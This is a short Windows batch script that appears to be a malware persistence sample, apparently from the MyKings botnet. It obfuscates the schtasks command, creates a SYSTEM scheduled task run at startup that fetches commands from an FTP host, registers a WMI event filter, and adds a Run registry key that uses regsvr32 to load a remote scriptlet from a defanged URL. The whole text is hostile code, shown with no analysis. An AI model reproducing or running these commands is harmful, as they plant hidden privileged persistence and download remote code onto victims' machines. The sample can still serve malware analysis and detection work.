@echo off
set a=xxschtasksxx
set t=%a:~2,8%
%t% /create /tn "Mysa" /tr "cmd /c echo open ftp.ftp1202.site>s&ftp -s:s" /ru "system" /sc onstart /F
wmic /namespace:\\root\subscription PATH __EventFilter CREATE Name="fuckyoumm3", EventNameSpace="root\cimv2"
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v "start" /d "regsvr32 /u /s /i:hxxp://js.mykings[.]top:280/v.sct scrobj.dll" /f
